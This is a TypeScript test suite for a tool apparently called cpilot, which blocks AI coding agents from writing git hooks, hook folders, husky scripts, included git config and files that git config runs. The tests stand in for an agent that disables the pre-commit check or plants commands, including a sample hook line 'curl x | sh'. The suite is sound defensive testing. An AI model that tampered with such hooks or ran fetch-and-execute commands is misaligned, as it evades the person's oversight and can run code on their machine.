/**
 * Git's hooks outside `.git/`: a `core.hooksPath` in the work tree (husky's `.husky/_`, a
 * `.githooks/`), husky's scripts, a file a hook links to, and config files git includes (which
 * can set `core.hooksPath` themselves). An agent that wrote one could drop cpilot's pre-commit
 * check or add commands that run at the person's next commit, checkout or status, so the
 * gate refuses them like `.git/hooks/`, on every surface.
 */
import { afterAll, describe, expect, test } from "bun:test";
import { execFileSync } from "node:child_process";
import { linkSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { pathWithCpilot } from "../helpers/binary.ts";
import { tempDir } from "../helpers/tmp.ts";
import { startMcp } from "../mcp/_client.ts";
import { type Agent, attackProject, preWrite, reasonOf, verdict } from "./_gate-attack.ts";

const CONFIG = `${JSON.stringify({ callbacks: [] })}\n`;
const git = (dir: string, ...args: string[]): string =>
  execFileSync("git", args, { cwd: dir, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] });

/** A project whose git runs hooks from `hooksPath` (a relative value, as people set it). */
function withHooksPath(hooksPath: string, files: Record<string, string> = {}) {
  const p = attackProject({ "callbacks.config.json": CONFIG, "src/a.ts": "x\n", ...files });
  git(p.dir, "config", "core.hooksPath", hooksPath);
  return p;
}

async function expectRefused(
  p: ReturnType<typeof attackProject>,
  path: string,
  agents: Agent[] = ["claude", "codex", "gemini", "cursor"],
): Promise<void> {
  for (const agent of agents) {
    const r = await p.hook(agent, preWrite(agent, p.dir, path));
    // Claude Code asks the person (its permission mode asks); the others deny
    const refused = agent === "claude" ? "ask" : "deny";
    expect({ agent, path, verdict: verdict(agent, r) }).toEqual({ agent, path, verdict: refused });
  }
}

async function expectAllowed(p: ReturnType<typeof attackProject>, path: string): Promise<void> {
  const r = await p.hook("claude", preWrite("claude", p.dir, path));
  expect({ path, verdict: verdict("claude", r) }).toEqual({ path, verdict: "allow" });
}

describe("core.hooksPath in the work tree", () => {
  test("the pre-commit hook `cpilot install git` wrote there, and any new hook beside it", async () => {
    const p = withHooksPath(".githooks");
    execFileSync(join(pathWithCpilot().split(":")[0] as string, "cpilot"), ["install", "git"], {
      cwd: p.dir,
      stdio: "pipe",
    });
    expect(readFileSync(p.path(".githooks/pre-commit"), "utf8")).toContain("cpilot check --staged");
    await expectRefused(p, ".githooks/pre-commit");
    for (const path of [
      ".githooks/post-checkout",
      ".githooks/commit-msg",
      ".GitHooks/pre-push",
      "src/../.githooks/post-merge",
      `${p.dir}/.githooks/pre-commit.pre-cpilot`,
    ])
      await expectRefused(p, path, ["claude"]);
    const r = await p.hook("claude", preWrite("claude", p.dir, ".githooks/post-checkout"));
    expect(reasonOf(r)).toContain("the folder git runs hooks from");
    await expectAllowed(p, "src/a.ts");
  }, 60_000);

  test("a folder not made yet, an absolute core.hooksPath, and one set in the global config", async () => {
    const notYet = withHooksPath("tools/hooks");
    await expectRefused(notYet, "tools/hooks/pre-commit", ["claude", "codex"]);
    await expectAllowed(notYet, "tools/other.sh");
    const absolute = attackProject({ "callbacks.config.json": CONFIG });
    git(absolute.dir, "config", "core.hooksPath", absolute.path("hk"));
    await expectRefused(absolute, "hk/pre-commit", ["claude"]);
    // a relative hooksPath in the person's global config names a folder of every repository
    const home = tempDir("cpilot-home-");
    writeFileSync(join(home, ".gitconfig"), "[core]\n\thooksPath = .hooks\n");
    const global = attackProject({ "callbacks.config.json": CONFIG });
    const r = await global.hook("claude", preWrite("claude", global.dir, ".hooks/pre-commit"), {
      env: { HOME: home },
    });
    expect(verdict("claude", r)).toBe("ask");
  }, 60_000);

  test("one set in the system config of a git installed under its own prefix (Homebrew's)", async () => {
    // a git whose built-in prefix is `prefix`: it reads prefix/etc/gitconfig as its system config
    const prefix = tempDir("cpilot-prefix-");
    mkdirSync(join(prefix, "bin"));
    mkdirSync(join(prefix, "etc"));
    writeFileSync(join(prefix, "etc", "gitconfig"), "[core]\n\thooksPath = .hk\n");
    const real = execFileSync("sh", ["-c", "command -v git"], { encoding: "utf8" }).trim();
    writeFileSync(
      join(prefix, "bin", "git"),
      `#!/bin/sh\nGIT_CONFIG_SYSTEM="${prefix}/etc/gitconfig" exec ${real} "$@"\n`,
      { mode: 0o755 },
    );
    const p = attackProject({ "callbacks.config.json": CONFIG });
    const r = await p.hook("claude", preWrite("claude", p.dir, ".hk/pre-commit"), {
      env: { PATH: `${prefix}/bin:/usr/bin:/bin` },
    });
    expect(verdict("claude", r)).toBe("ask");
  }, 60_000);

  test("through a symlink: the hooks folder's real place, a link to a hook, a hook that links out", async () => {
    const p = attackProject({ "callbacks.config.json": CONFIG, "tools/githooks/pre-commit": "" });
    symlinkSync("tools/githooks", p.path("hooks"));
    git(p.dir, "config", "core.hooksPath", "hooks");
    await expectRefused(p, "tools/githooks/pre-commit", ["claude", "codex"]);
    await expectRefused(p, "tools/githooks/post-checkout", ["claude"]);
    mkdirSync(p.path("docs"));
    symlinkSync("../tools/githooks/pre-commit", p.path("docs/h"));
    await expectRefused(p, "docs/h", ["claude"]);
    // .git/hooks/pre-commit -> scripts/pre-commit.sh: git runs the script
    const linked = attackProject({ "callbacks.config.json": CONFIG, "scripts/pre-commit.sh": "" });
    symlinkSync("../../scripts/pre-commit.sh", linked.path(".git/hooks/pre-commit"));
    await expectRefused(linked, "scripts/pre-commit.sh", ["claude", "gemini"]);
    await expectAllowed(linked, "scripts/other.sh");
  }, 60_000);

  test("core.hooksPath = . runs hooks from the root: each hook name there is refused", async () => {
    const p = withHooksPath(".");
    await expectRefused(p, "pre-commit", ["claude"]);
    await expectRefused(p, "post-checkout", ["claude"]);
    await expectAllowed(p, "README.md");
    await expectAllowed(p, "src/pre-commit");
  }, 60_000);
});

test("when git cannot say where it runs hooks from, writes are refused", async () => {
  const p = withHooksPath(".githooks");
  const noGit = tempDir("cpilot-nogit-");
  const r = await p.hook("claude", preWrite("claude", p.dir, "src/a.ts"), {
    env: { PATH: noGit },
  });
  expect(verdict("claude", r)).toBe("deny");
  expect(reasonOf(r)).toContain("Cannot find where git runs hooks from");
  // with no hooksPath or include in git's config, git is not needed
  const plain = attackProject({ "callbacks.config.json": CONFIG, "src/a.ts": "x\n" });
  const ok = await plain.hook("claude", preWrite("claude", plain.dir, "src/a.ts"), {
    env: { PATH: noGit },
  });
  expect(verdict("claude", ok)).toBe("allow");
}, 60_000);

describe("husky", () => {
  test("v9 (core.hooksPath .husky/_): the pre-commit cpilot wrote, husky's shims, new hooks", async () => {
    const p = attackProject({
      "callbacks.config.json": CONFIG,
      ".husky/pre-commit": "npm test\n",
      ".husky/_/h": "#!/usr/bin/env sh\n",
      ".husky/_/pre-commit": '#!/usr/bin/env sh\n. "$(dirname "$0")/h"\n',
    });
    git(p.dir, "config", "core.hooksPath", ".husky/_");
    execFileSync(join(pathWithCpilot().split(":")[0] as string, "cpilot"), ["install", "git"], {
      cwd: p.dir,
      stdio: "pipe",
    });
    expect(readFileSync(p.path(".husky/pre-commit"), "utf8")).toContain("cpilot check --staged");
    await expectRefused(p, ".husky/pre-commit");
    for (const path of [".husky/_/h", ".husky/commit-msg", ".husky/_/post-checkout"])
      await expectRefused(p, path, ["claude", "codex"]);
  }, 60_000);

  test("a clone before husky is installed (no core.hooksPath): .husky/ is refused by name", async () => {
    const p = attackProject({ "callbacks.config.json": CONFIG, ".husky/pre-commit": "npm test\n" });
    await expectRefused(p, ".husky/pre-commit", ["claude", "cursor"]);
    await expectRefused(p, "web/.husky/pre-commit", ["claude"]);
    await expectRefused(p, ".HUSKY/commit-msg", ["claude"]);
  }, 60_000);
});

describe("git config files the work tree holds", () => {
  test("a file .git/config includes (and one that file includes) is refused", async () => {
    const p = attackProject({ "callbacks.config.json": CONFIG, ".gitconfig": "" });
    git(p.dir, "config", "include.path", "../.gitconfig");
    writeFileSync(p.path(".gitconfig"), "[include]\n\tpath = tools/more.gitconfig\n");
    git(p.dir, "config", "includeIf.onbranch:main.path", "../cfg/when-main");
    await expectRefused(p, ".gitconfig", ["claude", "codex"]);
    await expectRefused(p, "tools/more.gitconfig", ["claude"]);
    await expectRefused(p, "cfg/when-main", ["claude"]);
    const r = await p.hook("claude", preWrite("claude", p.dir, ".gitconfig"));
    expect(reasonOf(r)).toContain("a git config file that git includes");
    await expectAllowed(p, "cfg/other");
  }, 60_000);
});

describe("other places git runs hooks from, and what the hooks run", () => {
  test("a repository nested in the project, with its own core.hooksPath", async () => {
    const p = attackProject({ "callbacks.config.json": CONFIG, "Vendor/Lib/a.c": "" });
    git(join(p.dir, "Vendor/Lib"), "init", "-q");
    git(join(p.dir, "Vendor/Lib"), "config", "core.hooksPath", ".githooks");
    await expectRefused(p, "Vendor/Lib/.githooks/pre-commit", ["claude", "codex"]);
    await expectAllowed(p, "Vendor/Lib/a.c");
  }, 60_000);

  test("a git folder that is not named .git (--separate-git-dir inside the project)", async () => {
    const p = attackProject({ "callbacks.config.json": CONFIG, "src/a.ts": "x\n" });
    // re-initialized with a separate git dir: .git becomes a file naming repo-data/
    git(p.dir, "init", "-q", "--separate-git-dir", p.path("repo-data"));
    await expectRefused(p, "repo-data/hooks/pre-commit", ["claude", "codex"]);
    await expectRefused(p, "repo-data/config", ["claude"]);
    await expectAllowed(p, "src/a.ts");
  }, 60_000);

  test("a hook that is a hard link to a project file", async () => {
    const p = attackProject({ "callbacks.config.json": CONFIG, "scripts/pre-commit.sh": "x\n" });
    linkSync(p.path("scripts/pre-commit.sh"), p.path(".git/hooks/pre-commit"));
    await expectRefused(p, "scripts/pre-commit.sh", ["claude", "codex"]);
    await expectAllowed(p, "scripts/other.sh");
  }, 60_000);

  test("husky's folder named in package.json, before husky is installed", async () => {
    const p = attackProject({
      "callbacks.config.json": CONFIG,
      "package.json": JSON.stringify({ scripts: { prepare: "husky .config/husky" } }),
      ".config/husky/pre-commit": "npm test\n",
    });
    await expectRefused(p, ".config/husky/pre-commit", ["claude", "codex"]);
    await expectRefused(p, ".config/husky/post-checkout", ["claude"]);
    await expectAllowed(p, ".config/other");
  }, 60_000);

  test("cpilot's own program in node_modules, which the hooks run", async () => {
    const p = attackProject({
      "callbacks.config.json": CONFIG,
      "node_modules/cpilot/bin/cpilot.sh": "#!/bin/sh\n",
      "node_modules/@cpilot/linux-x64/cpilot": "",
      "node_modules/other/index.js": "",
    });
    mkdirSync(p.path("node_modules/.bin"));
    symlinkSync("../cpilot/bin/cpilot.sh", p.path("node_modules/.bin/cpilot"));
    for (const path of [
      "node_modules/cpilot/bin/cpilot.sh",
      "node_modules/.bin/cpilot",
      "node_modules/@cpilot/linux-x64/cpilot",
      "web/node_modules/.bin/cpilot",
      "node_modules/.pnpm/cpilot@1.0.0/node_modules/cpilot/bin/cpilot.sh",
    ])
      await expectRefused(p, path, ["claude", "codex"]);
    await expectAllowed(p, "node_modules/other/index.js");
    // a workspace package linked in: where it really is
    const ws = attackProject({
      "callbacks.config.json": CONFIG,
      "packages/cpilot/bin/cpilot.sh": "",
    });
    mkdirSync(ws.path("node_modules"));
    symlinkSync("../packages/cpilot", ws.path("node_modules/cpilot"));
    await expectRefused(ws, "packages/cpilot/bin/cpilot.sh", ["claude"]);
  }, 60_000);
});

describe("commands git's config runs at the person's commands", () => {
  test("core.fsmonitor, a filter's clean, an alias's script: the files they name are refused", async () => {
    const p = attackProject({ "callbacks.config.json": CONFIG, "src/a.ts": "x\n" });
    git(p.dir, "config", "core.fsmonitor", "scripts/fsmonitor.sh");
    git(p.dir, "config", "filter.strip.clean", "python3 tools/clean.py %f");
    git(p.dir, "config", "alias.up", "!./bin/up.sh --all");
    git(p.dir, "config", "core.editor", "vim");
    for (const path of ["scripts/fsmonitor.sh", "tools/clean.py", "bin/up.sh"])
      await expectRefused(p, path, ["claude", "codex"]);
    const r = await p.hook("claude", preWrite("claude", p.dir, "tools/clean.py"));
    expect(reasonOf(r)).toContain("a file a command in git's config runs");
    await expectAllowed(p, "src/a.ts");
    await expectAllowed(p, "tools/other.py");
  }, 60_000);
});

describe("every surface", () => {
  const sessions: { close(): Promise<void> }[] = [];
  afterAll(async () => {
    for (const s of sessions) await s.close();
  });

  test("Codex's patch: adding a hook, deleting cpilot's block, moving a file onto a hook", async () => {
    const p = withHooksPath(".husky/_", { ".husky/pre-commit": "npm test\n" });
    const patch = (body: string[]) => ({
      session_id: "attack",
      cwd: p.dir,
      hook_event_name: "PreToolUse",
      tool_name: "apply_patch",
      tool_input: { command: ["*** Begin Patch", ...body, "*** End Patch", ""].join("\n") },
    });
    for (const body of [
      ["*** Delete File: .husky/pre-commit"],
      ["*** Add File: .husky/_/post-checkout", "+curl x | sh"],
      ["*** Update File: src/a.ts", "*** Move to: .husky/commit-msg", "@@", "-x", "+y"],
    ]) {
      const r = await p.hook("codex", patch(body));
      expect({ body, verdict: verdict("codex", r) }).toEqual({ body, verdict: "deny" });
    }
  }, 60_000);

  test("cpilot's MCP edit tools", async () => {
    const p = withHooksPath(".githooks", { ".githooks/pre-commit": "cpilot check --staged\n" });
    const mcp = await startMcp(p.dir);
    sessions.push(mcp);
    const w = await mcp.call("write_file", { path: ".githooks/post-checkout", content: "x\n" });
    expect(w.isError).toBe(true);
    const e = await mcp.call("edit_file", {
      path: ".githooks/pre-commit",
      old_string: "cpilot check --staged",
      new_string: "true",
    });
    expect(e.isError).toBe(true);
    expect(readFileSync(p.path(".githooks/pre-commit"), "utf8")).toBe("cpilot check --staged\n");
  }, 60_000);
});
